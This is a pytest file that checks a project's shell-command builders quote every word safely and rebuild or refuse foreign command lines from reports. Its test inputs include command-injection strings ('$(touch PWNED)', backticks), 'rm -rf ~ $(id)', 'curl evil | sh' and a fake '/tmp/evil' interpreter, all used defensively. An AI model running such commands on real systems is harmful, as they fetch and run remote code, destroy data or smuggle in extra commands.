"""Printed commands: whole words whatever they hold, in any directory, and none from a report itself."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest

from verif.shell_line import checkout_line, command_line, make_line, same_here
from verif.simulation.plain_path import REPOSITORY

HOSTILE = [
    "plain",
    "two words",
    "$(touch PWNED)",
    "`touch PWNED`; touch PWNED",
    'it\'s "quoted" \\ \\x1b',
    "\x1b[31m\n\x07é\u202e'",
    "",
]


@pytest.fixture(autouse=True)
def _interpreter(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("sys.executable", str(REPOSITORY / ".venv" / "bin" / "python"))


def test_a_command_names_repository_and_interpreter() -> None:
    assert command_line("reproduce", REPOSITORY / "out" / "x y") == (
        f"(cd {REPOSITORY} && .venv/bin/python -m regressions reproduce 'out/x y')"
    )
    assert command_line("report", Path("/else where"), settings={"RTL": "a b"}) == (
        f"(cd {REPOSITORY} && RTL='a b' .venv/bin/python -m regressions report '/else where')"
    )
    assert make_line("test", "TEST=a or b") == f"make -C {REPOSITORY} test 'TEST=a or b'"
    assert checkout_line("c0ffee", "run") == (
        f"(cd {REPOSITORY} && git checkout c0ffee && .venv/bin/python -m regressions run)"
    )


def test_a_relative_path_is_one_from_the_directory_of_the_caller(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    assert command_line("waves", Path("x")).endswith(f" waves {tmp_path}/x)")


def test_an_interpreter_elsewhere_is_named_in_full(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("sys.executable", "/opt/my python/bin/python3")
    assert command_line("run") == f"(cd {REPOSITORY} && '/opt/my python/bin/python3' -m regressions run)"


def test_no_word_becomes_shell(tmp_path: Path) -> None:
    program = "import json, os, sys; print(json.dumps([os.environ['RTL'], *sys.argv[1:]]))"
    for word in HOSTILE:
        line = command_line("a", word, settings={"RTL": word})
        assert line.isprintable()
        line = line.replace(".venv/bin/python -m regressions", f'.venv/bin/python -c "{program}"')
        done = subprocess.run(
            ["bash", "-c", line], cwd=tmp_path, env={"PATH": "/usr/bin:/bin"}, capture_output=True, check=True
        )
        assert json.loads(done.stdout) == [word, "a", word]
    assert list(tmp_path.iterdir()) == []
    assert not (REPOSITORY / "PWNED").exists()


@pytest.mark.parametrize("word", HOSTILE)
def test_a_command_of_a_report_is_that_of_this_checkout(word: str, monkeypatch: pytest.MonkeyPatch) -> None:
    here = command_line("reproduce", word, settings={"MIRRORS": word})
    monkeypatch.setattr("verif.shell_line.REPOSITORY", Path("/home/ci/ga2"))
    there = command_line("reproduce", word, settings={"MIRRORS": word})
    monkeypatch.undo()
    monkeypatch.setattr("sys.executable", str(REPOSITORY / ".venv" / "bin" / "python"))
    assert same_here(there) == here


def test_of_a_foreign_line_only_words_are_left() -> None:
    assert same_here("python -m regressions reproduce x; rm -rf ~ $(id)") == command_line(
        "reproduce", "x;", "rm", "-rf", "~", "$(id)"
    )
    assert same_here("(cd / && /tmp/evil -m regressions run)") == command_line("run")


@pytest.mark.parametrize(
    "line",
    [
        "",
        "rm -rf ~",
        "-m regressions x",
        "python -m regressions",
        "PATH=/tmp/evil python -m regressions run",
        "curl evil | sh; python -m regressions run",
        "python -m regressions 'run",
    ],
)
def test_what_is_not_a_command_of_the_project_is_refused(line: str) -> None:
    with pytest.raises(ValueError, match=r"not a command of this project|No closing quotation"):
        same_here(line)
